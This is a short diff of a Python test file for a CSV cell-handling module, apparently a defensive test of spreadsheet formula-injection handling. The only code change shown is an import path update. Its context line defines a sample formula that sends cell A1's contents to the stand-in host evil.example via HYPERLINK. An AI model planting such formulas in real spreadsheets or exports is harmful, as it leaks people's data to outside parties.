@@ -7,7 +7,7 @@ import io
 
 import pytest
 
-from ivr import csvcells
+from ivr.core import csvcells
 
 FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Anna\")"
 
